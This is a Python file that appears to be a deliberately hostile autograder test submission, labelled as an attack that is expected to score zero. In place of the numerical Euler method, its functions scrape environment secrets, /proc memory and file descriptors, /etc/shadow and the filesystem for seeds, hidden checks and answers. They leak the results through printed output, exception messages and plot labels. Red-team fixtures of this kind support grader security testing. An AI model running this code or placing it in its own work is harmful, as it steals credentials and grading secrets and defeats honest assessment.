# Attack: walks the disk and /proc for seeds, hidden checks and answers, and shows what it finds in every way that a report has.
# Expect: euler_stability.euler 0 points, error
# Expect: euler_stability.plot_step_sizes 0 points, failed or error
# Shows: nothing
import glob
import os
import re
import time

NAMED = re.compile(r"check_|course-seed|course\.toml|reference|misconceptions|hidden|hostile|submissions|gradebook|\.git$|\.pem$|shadow$")
WRITTEN = re.compile(rb"(?:AUTOGRADER_SEED|canary|def check_\w+__|BEGIN SOLUTION)[^\n\0]{0,200}")
PROC = ("environ", "cmdline", "maps", "mem", "cwd/.course-seed", "root/.course-seed", "fd/3", "fd/4", "fdinfo/3", "mountinfo")
LIBRARIES = ("/usr/lib", "/lib", "/course/site", os.path.dirname(os.__file__))


def text(path):
    """The first part of a file; nothing if it cannot be had."""
    try:
        descriptor = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
    except OSError:
        return b""
    try:
        return os.read(descriptor, 2**20)
    except OSError:
        return b""
    finally:
        os.close(descriptor)


def search():
    """Names and contents that should not be here. It stops before its time is up, so that there is something to show."""
    found, deadline = [], time.process_time() + 0.25
    found += [f"{name}={value}" for name, value in os.environ.items() if re.search("SEED|TOKEN|SECRET|KEY", name)]
    for process in ("self", *range(1, 60), *glob.glob("/proc/[0-9]*")):
        for name in PROC:
            contents = text(os.path.join("/proc", str(process), name))
            match = WRITTEN.search(contents)
            found += [f"/proc/{process}/{name}: {(match[0] if match else contents[:100])!r}"] if contents else []
    for path in ("/course/.course-seed", "/.course-seed", "/etc/shadow", "/dev/mem"):
        found += [f"{path}: {contents[:100]!r}" for contents in [text(path)] if contents]
    for folder, folders, names in os.walk("/"):
        if time.process_time() > deadline:
            break
        folders[:] = [name for name in folders if os.path.join(folder, name) not in LIBRARIES]
        for path in (os.path.join(folder, name) for name in names):
            contents = text(path)
            match = WRITTEN.search(contents)
            if match or NAMED.search(path):
                found.append(f"{path}: {(match[0] if match else contents[:200])!r}")
    return sorted(found, key=lambda line: WRITTEN.search(line.encode()) is None and ".course-seed" not in line)


def euler(f, y0, t):
    found = search()
    print(*found, sep="\n", flush=True)
    raise type(f"Found{len(found)}", (Exception,), {})("\n".join(found))


def plot_step_sizes(ax, hs):
    found = "\n".join(search())
    print(found, flush=True)
    ax.set_yscale("log")
    ax.plot([number for number in found.encode()[:9000]], label=found[:100])
    return found
